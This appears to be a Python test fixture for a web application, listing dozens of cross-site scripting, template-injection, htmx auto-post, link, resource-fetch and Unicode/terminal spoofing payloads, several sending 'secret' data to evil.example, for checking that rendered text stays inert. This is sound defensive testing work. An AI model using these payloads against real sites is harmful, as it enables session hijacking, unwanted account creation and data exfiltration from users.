"""Text that would do something if a page took it for more than text. RELIABILITY S9 and S10.

A script that runs sets `window.layby_owned`; a fetch goes to evil.example, where nobody is. Not for the templates of
the scripted model (they are in braces): give these to an agent over tests/strict.
"""

RUN = "window.layby_owned=1;parent.layby_owned=1;alert(1)"
EVIL = "https://evil.example"
POST = "/w/acme/new-member/"

PAYLOADS = [
    # script, one way or another
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<script src={EVIL}/x.js></script>",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'/",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></mtext><style><img src=x onerror={RUN}></style></math>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    # out of where it stands
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"</textarea></pre></title></script></style></select><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"${{{RUN}}} `{RUN}` {{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7|add:'7' }} {% load static %} {% include 'error.html' %} {# x #} {{ settings.SECRET_KEY }}",
    # links
    f"[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) [c](data:text/html,<script>{RUN}</script>) [d](vbscript:x)",
    f'<a href="javascript:{RUN}" ping={EVIL}/ping target=_self>click</a>',
    f"<{EVIL}/auto> {EVIL}/bare www.evil.example",
    # htmx
    f"<div hx-get='/w/acme/sessions/' hx-trigger='load' hx-on::load='{RUN}' hx-on:click='{RUN}'>x</div>",
    f"<form hx-post='{POST}' hx-trigger='load'><input name=username value=x></form>",
    f"<div data-hx-post='{POST}' data-hx-trigger='every 1s' hx-vals='js:{{x: {RUN}}}'>x</div>",
    "<div ws-connect='wss://evil.example/ws' hx-ext='ws'>x</div>",
    "<b id=road hx-swap-oob=true>gone</b><div id=aside hx-swap-oob='delete'></div>",
    f"<form id=f action='{EVIL}' method=post><button autofocus form=f formaction='{EVIL}'>x</button></form>",
    # fetches
    f"![secret]({EVIL}/?q=secret) ![secret][r]\n\n[r]: {EVIL}/r?q=secret",
    f"<img src={EVIL}/i.png srcset='{EVIL}/1.png 1x, {EVIL}/2.png 2x'><picture><source srcset={EVIL}/3></picture>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>",
    f"<style>@import '{EVIL}/x.css';body{{background:url({EVIL}/b)}}</style><p style='background:url({EVIL}/s)'>x</p>",
    f"<link rel=stylesheet href={EVIL}/c.css><link rel=icon href={EVIL}/i.ico><link rel=prefetch href={EVIL}/p>",
    f"<svg><image href={EVIL}/s.png /><use href={EVIL}/u.svg#x /></svg><audio src={EVIL}/a autoplay></audio>",
    f"<table background={EVIL}/t><tr><td background={EVIL}/d>x</table>",
    f"<iframe src={EVIL}/frame></iframe><portal src={EVIL}/portal></portal>",
    # what reads as something else
    "\u202egnp.exe\u202c \u200bx\u2066y\u2069 \ufeffz \U000e0041",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J\r\nfake: log line",
]
ALL = "\n\n".join(PAYLOADS)
LABELS = [one[:80] for one in PAYLOADS]


def file_names() -> list[str]:
    """Each payload as the name of a file: no slash, no control characters, short enough."""
    names = ("".join(c for c in one.replace("/", "|") if c >= " " and c != "\x7f")[:120] for one in PAYLOADS)
    return [f"{number} {name}" for number, name in enumerate(names)]
